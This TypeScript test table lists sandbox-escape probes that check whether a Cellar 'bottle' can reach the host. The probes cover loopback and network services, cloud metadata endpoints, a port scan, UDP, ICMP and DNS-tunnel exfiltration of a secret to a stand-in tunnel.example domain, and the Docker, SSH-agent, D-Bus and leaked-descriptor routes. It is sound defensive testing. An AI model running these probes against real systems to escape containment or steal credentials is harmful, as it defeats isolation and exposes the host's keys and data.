/** Past the gateway: the network of the host, its services and its sockets, by every protocol there is. */
import type { Attempt } from "./attempt.ts";

const nowhere =
  /Connection refused|Network is unreachable|No route to host|timed out|No such file|Address family|Cannot assign|Operation not permitted/i;

const direct: Attempt[] = [
  {
    name: "a service on the host's loopback",
    fear: "It reads my development database, or drives a browser that listens for its debugger.",
    script: `"$PROBE" tcp 127.0.0.1 "$TCP"`,
    refused: nowhere,
    control: "host",
  },
  {
    name: "a service on the host's loopback, by IPv6",
    fear: "IPv6 was forgotten.",
    script: `"$PROBE" tcp ::1 "$TCP"`,
    refused: nowhere,
    control: "host",
  },
  {
    name: "a service on the host's loopback, as an IPv4 address in IPv6",
    fear: "An address in a form that nobody compared.",
    script: `"$PROBE" tcp ::ffff:127.0.0.1 "$TCP"`,
    refused: nowhere,
    control: "host",
  },
  {
    name: "a service of the host by its address on the network",
    fear: "It reaches my computer the way its neighbours do.",
    script: `"$PROBE" tcp "$HOST_ADDRESS" "$TCP"`,
    refused: nowhere,
    control: "host",
  },
  {
    name: "Cellar's own window server",
    fear: "It drives Cellar: launches something without a bottle, allows itself a host.",
    script: `"$PROBE" tcp 127.0.0.1 "$MAIN_PORT"`,
    refused: nowhere,
    control: "host",
  },
  {
    name: "an address on the internet",
    fear: "It sends my code to somebody's server.",
    script: `"$PROBE" tcp 192.0.2.1 443; "$PROBE" tcp 1.1.1.1 443`,
    refused: nowhere,
    control: { none: "a test sends nothing beyond this computer; the host's own address shows that the call works" },
  },
  {
    name: "an address on the internet, by IPv6",
    fear: "IPv6 was forgotten.",
    script: `"$PROBE" tcp 2001:db8::1 443; "$PROBE" tcp 2606:4700:4700::1111 443`,
    refused: nowhere,
    control: { none: "a test sends nothing beyond this computer" },
  },
  {
    name: "the metadata service of a cloud",
    fear: "It takes the credentials of the machine that Cellar runs on.",
    script: `"$PROBE" tcp 169.254.169.254 80; "$PROBE" tcp fd00:ec2::254 80; "$PROBE" tcp 100.100.100.200 80`,
    refused: nowhere,
    control: { none: "there may be a real one" },
  },
  {
    name: "the whole loopback, scanned for anything but the bottle's services",
    fear: "Something of Cellar or of another bottle listens where it can be reached.",
    script: `
for port in $(seq 1 40) $(seq 79 82) 443 2375 2376 3000 5432 5900 6379 8000 8080 8443 $(seq 9090 9110) 9222 "$TCP" "$MAIN_PORT"; do
  case " $SERVICE_PORTS " in *" $port "*) continue;; esac
  "$PROBE" tcp 127.0.0.1 $port
done`,
    refused: nowhere,
    control: "host",
  },
  {
    name: "UDP to the host",
    fear: "Data leaves by a protocol that no proxy sees.",
    script: `"$PROBE" udp "$HOST_ADDRESS" "$UDP" "$SECRET"; "$PROBE" udp 127.0.0.1 "$UDP" "$SECRET"`,
    refused: nowhere,
    control: "host",
  },
  {
    name: "ICMP",
    fear: "Data leaves in pings.",
    script: `"$PROBE" icmp "$HOST_ADDRESS"`,
    refused: /Network is unreachable|not permitted|Permission denied|not supported|timed out/i,
    control: "root",
  },
  {
    name: "raw packets, virtual machine sockets and the packet filter",
    fear: "It speaks below the network that is watched, or changes its rules.",
    script: `"$PROBE" call packet; "$PROBE" call vsock; "$PROBE" call netfilter`,
    refused: /not supported|not permitted/i,
    control: "root",
  },
  {
    name: "another name server",
    fear: "It asks a name server of its own, which answers anything.",
    script: `"$PROBE" dns "$HOST_ADDRESS" "$UDP" example.org 1; "$PROBE" dns 127.0.0.1 "$UDP" example.org 1`,
    refused: nowhere,
    control: "host",
  },
  {
    name: "names that carry a secret (DNS tunnel)",
    fear: "My key leaves as a name that somebody's name server is asked for.",
    script: `
server=$(sed -n 's/^nameserver //p' /etc/resolv.conf | head -1)
[ -n "$NAME_SERVER" ] && server=$NAME_SERVER
port=\${NAME_PORT:-53}
for type in 1 28 16 10 255; do
  "$PROBE" dns "\${server:-127.0.0.1}" "$port" "$SECRET$SECRET$SECRET.tunnel.example" $type
  "$PROBE" dns-stream "\${server:-127.0.0.1}" "$port" "$SECRET.tunnel.example" $type
done
i=0; while [ $i -lt 20 ]; do "$PROBE" dns "\${server:-127.0.0.1}" "$port" "$i-$SECRET.tunnel.example" 16; i=$((i+1)); done | sort -u`,
    refused: nowhere,
    control: "host",
  },
  {
    name: "names by the system's resolver",
    fear: "A name is looked up outside although nothing may be reached.",
    script: `tries getent ahosts "$SECRET.tunnel.example"`,
    refused: /REFUSED/,
    control: { inside: "tries getent ahosts localhost" },
  },
];

const sockets: Attempt[] = [
  {
    name: "the Docker socket",
    fear: "Whoever speaks to Docker is root of my computer.",
    script: `for at in /var/run/docker.sock /run/docker.sock "$HOMEDIR/.docker/run/docker.sock" "$HOMEDIR/docker.sock"; do "$PROBE" unix "$at"; done`,
    refused: nowhere,
    control: "host",
  },
  {
    name: "the SSH agent",
    fear: "It signs in to my servers with my keys.",
    script: `"$PROBE" unix "$HOMEDIR/agent.sock"; [ -n "$SSH_AUTH_SOCK" ] && "$PROBE" unix "$SSH_AUTH_SOCK"; true`,
    refused: nowhere,
    control: "host",
  },
  {
    name: "the keyring and the session bus",
    fear: "It asks the keyring for my passwords, or the desktop to start something.",
    script: `for at in "$HOMEDIR/bus" "/run/user/$(id -u)/bus" "/run/user/0/bus" "/run/user/1000/bus" /run/dbus/system_bus_socket; do "$PROBE" unix "$at"; done
[ -z "$DBUS_SESSION_BUS_ADDRESS" ] || echo "ESCAPED it knows the bus"`,
    refused: nowhere,
    control: "host",
  },
  {
    name: "an abstract Unix socket of the host",
    fear: "Sockets without a file (X11, some buses) are not in any folder that could be hidden.",
    script: `"$PROBE" abstract "$ABSTRACT"; "$PROBE" abstract /tmp/.X11-unix/X0`,
    refused: nowhere,
    control: "host",
  },
  {
    name: "the sockets of Cellar, its terminal host and other bottles",
    fear: "It drives Cellar from inside.",
    script: `for at in "$RUNTIME"/*.sock "$RUNTIME"/main.sock "$RUNTIME"/host-2.sock "$RUNTIME"/agents-2.sock "$OTHER_DIRECTORY"/gateway.sock "$OTHER_DIRECTORY"/broker.sock "$OWN_DIRECTORY"/names.sock; do "$PROBE" unix "$at"; done`,
    refused: nowhere,
    control: "host",
  },
  {
    name: "descriptors of the host that were left open",
    fear: "An open file or socket came in with the program.",
    script: `"$PROBE" fds 3<&- 4<&- 5<&- 6<&- 7<&- 8<&- 9<&-; for at in /proc/1/fd/*; do target=$(readlink "$at"); case $target in /dev/pts/*|/dev/null|/dev/console|anon_inode:*|pipe:*|socket:*|"") ;; *) echo "ESCAPED $at is $target";; esac; done`,
    refused: /REFUSED descriptors/,
    control: {
      none: "what a shell has open differs from host to host; the next line of the table sees one that is open",
    },
  },
  {
    name: "a descriptor is seen when there is one (control of the line above)",
    fear: "The look for descriptors sees nothing at all.",
    script: `"$PROBE" fds`,
    refused: /REFUSED/,
    control: { inside: `exec 8</etc/passwd; "$PROBE" fds` },
  },
];

export const networkAttempts: readonly Attempt[] = [...direct, ...sockets];
